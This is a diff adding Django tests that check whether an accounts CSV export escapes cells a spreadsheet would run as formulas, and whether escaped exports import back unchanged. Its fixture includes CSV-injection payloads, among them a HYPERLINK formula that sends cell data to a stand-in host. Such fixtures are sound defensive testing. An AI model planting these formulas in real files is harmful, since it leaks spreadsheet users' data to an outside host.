@@ -338,3 +338,37 @@ def test_an_export_imports_back_without_changes(manager_a):
                                      {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")})
     preview = manager_a.client.get(response["Location"])
     assert b"1 unchanged" in preview.content and b"problem" not in preview.content
+
+
+# --- CSV injection (issue 11, item 3) ---------------------------------------------------------------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "industry": "+1+1", "segment": "-2+3",
+    "notes": "@SUM(A1:A9)", "classification_reason": "\tTabbed", "external_id": "\rCR-1",
+}
+
+
+def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(tenant_a, make_member):
+    viewer = make_member(tenant_a, Role.VIEWER)
+    AccountFactory(tenant=tenant_a, **FORMULAS)
+    raw = viewer.client.get(viewer.url("accounts/export.csv")).content.decode("utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(raw)) if r["name"].endswith('"Click")'))
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in raw  # quoted, its quotes doubled
+    assert row["potential_level"] == "" and row["status"] == "prospect"
+
+
+def test_an_escaped_export_imports_back_unchanged(manager_a):
+    AccountFactory(tenant=manager_a.tenant, owner=manager_a.user,
+                   **{**FORMULAS, "external_id": "=RT-1", "classification_reason": "-keep"})
+    exported = manager_a.client.get(manager_a.url("accounts/export.csv")).content
+    assert b"'=RT-1" in exported
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    response = manager_a.client.post(manager_a.url("accounts/import/"),
+                                     {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")})
+    preview = manager_a.client.get(response["Location"])
+    assert b"1 unchanged" in preview.content and b"problem" not in preview.content
+    page = manager_a.client.get(manager_a.url("accounts/import/")).content.decode()
+    assert "OWASP" in page and "apostrophe" in page
